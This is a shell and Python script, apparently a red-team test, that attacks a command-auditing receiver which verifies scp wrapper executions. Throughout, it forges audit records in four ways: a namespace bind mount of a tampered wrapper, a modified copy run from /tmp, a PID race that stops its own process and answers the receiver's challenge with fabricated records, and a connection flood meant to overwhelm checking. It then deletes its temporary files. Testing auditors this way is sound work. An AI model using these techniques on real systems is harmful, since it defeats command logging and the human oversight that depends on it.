# Forge a command record with wrappers the receiver would verify. NS: in a user+mount namespace of our own,
# bind a modified wrapper (it runs /bin/true instead of scp) over /usr/local/bin/scp, so the path, the
# interpreter and argv are the wrapper's. COPY: the same modified wrapper from /tmp. PID: connect to the
# receiver, then exec the real wrapper in the same pid, stop it and answer the receiver's challenge ourselves
# (if the wrapper got to fork before the stop, its own child reports and runs scp honestly: a record of its own).
# LATE: after a flood of connections, the COPY attack again, which must still be kept as evidence.
echo "<<<jack $(hostname)"
m="JACK""ED"
sed "s,my \$real = '/usr/bin/scp';,my \$real = '/bin/true';," /usr/local/bin/scp > /tmp/.jack
chmod 755 /tmp/.jack
grep -q "real = '/bin/true'" /tmp/.jack && echo "JACK-MODIFIED"
if unshare -Urm sh -c 'mount --bind /tmp/.jack /usr/local/bin/scp && grep -q /bin/true /usr/local/bin/scp && echo NS-BOUND && exec /usr/local/bin/scp "$1-NS" "src:/data/$1-NS" "dst:/data/"' sh "$m"; then
  echo "NS-RAN 0"
else
  echo "NS-RAN $?"
fi
/tmp/.jack "$m-COPY" "src:/data/$m-COPY" "dst:/data/" && echo "COPY-RAN 0" || echo "COPY-RAN $?"
# the receiver may look at the pid before the exec: then it refuses us, and we try again
cat > /tmp/.jack.py <<'PY'
import os, signal, socket, sys, time
mark = sys.argv[1]
def conn():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("/var/lib/misc/.state")
    return s
# a queue of idle connections first, so that ours are looked at after the exec below
junk = [conn() for _ in range(8)]
mine = [conn(), conn()]
parent = os.getpid()
child = os.fork()
if child == 0:
    for s in junk:
        s.close()
    deadline = time.time() + 5
    while time.time() < deadline:
        try:
            if b"/usr/local/bin/scp" in open(f"/proc/{parent}/cmdline", "rb").read():
                break
        except OSError:
            pass
    os.kill(parent, signal.SIGSTOP)
    print("PID-STOPPED", parent, open(f"/proc/{parent}/cmdline", "rb").read().replace(b"\0", b" ").decode(), flush=True)
    records = [f"exec {os.getppid()} {os.getcwd().encode().hex()}", f"exit {parent + 1} 0 0"]
    for s, record in zip(mine, records):
        s.settimeout(15)
        buf = b""
        try:
            while b"\n" not in buf:
                got = s.recv(256)
                if not got:
                    break
                buf += got
        except OSError as error:
            print("PID-NOCHALLENGE", error, flush=True)
            continue
        if b"\n" not in buf:
            print("PID-CLOSED", buf, flush=True)
            continue
        challenge = buf.split(b"\n", 1)[0].decode()
        s.sendall(f"{challenge} {record}\n".encode())
        try:
            ack = s.recv(256)
        except OSError as error:
            ack = repr(error).encode()
        print("PID-ANSWERED", record.split()[0], ack, flush=True)
        open("/tmp/.jacked", "a").write(record.split()[0] + "\n")
    os.kill(parent, signal.SIGKILL)
    os._exit(0)
for s in mine:
    os.set_inheritable(s.fileno(), True)
os.execv("/usr/local/bin/scp", ["scp", mark, f"src:/data/{mark}", "dst:/data/"])
PY
rm -f /tmp/.jacked
for try in 1 2 3 4 5 6 7 8; do
  python3 /tmp/.jack.py "$m-PID"
  sleep 1  # our child kills the stopped wrapper once the receiver is done with it
  [ "$(cat /tmp/.jacked 2>/dev/null | wc -l)" -ge 2 ] && break
done
echo "PID-TRIES $try"
# in waves of 60, held open for the receiver to look at each (it closes more than 64 at once unchecked)
python3 -c '
import socket, time
for wave in range(2):
    flood = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(60)]
    for s in flood:
        s.connect("/var/lib/misc/.state")
    time.sleep(3)
    for s in flood:
        s.close()
print("FLOOD-CONNECTED", 2 * len(flood), flush=True)'
cp /tmp/.jack /tmp/.jack-late
/tmp/.jack-late "$m-LATE" "src:/data/$m-LATE" "dst:/data/" && echo "LATE-RAN 0" || echo "LATE-RAN $?"
rm -f /tmp/.jacked /tmp/.jack.py /tmp/.jack /tmp/.jack-late
echo ">>>jack $(hostname)"
